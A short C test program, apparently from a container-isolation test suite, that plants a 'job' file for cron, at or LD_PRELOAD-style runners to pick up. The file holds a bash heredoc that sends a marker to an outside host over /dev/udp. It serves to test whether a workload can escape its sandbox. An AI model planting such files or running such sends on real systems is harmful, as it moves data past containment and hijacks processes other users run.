// title: file that an untagged process runs, as cron, at, a login shell and LD_PRELOAD do
// row: LD_PRELOAD, cron, at, systemd-run
// helper: victim
// documented: whoever can write what others run makes them carry its bytes: give the workload mounts of its own
#include "technique.h"

int main(void)
{
	char line[512], partial[300];
	snprintf(line, sizeof(line), "bash <<'END'\nprintf %%s %s >/dev/udp/%s/%s\nEND\n", mark(), env("TARGET4"),
	         env("PORT"));
	snprintf(partial, sizeof(partial), "%s.partial", env("HELPER"));
	close(must(open(partial, O_CREAT | O_WRONLY, 0600), partial));
	write_file(partial, line);
	must(rename(partial, helper_file("job")), "rename");
	usleep(300000);
	return WENT_OUT;
}
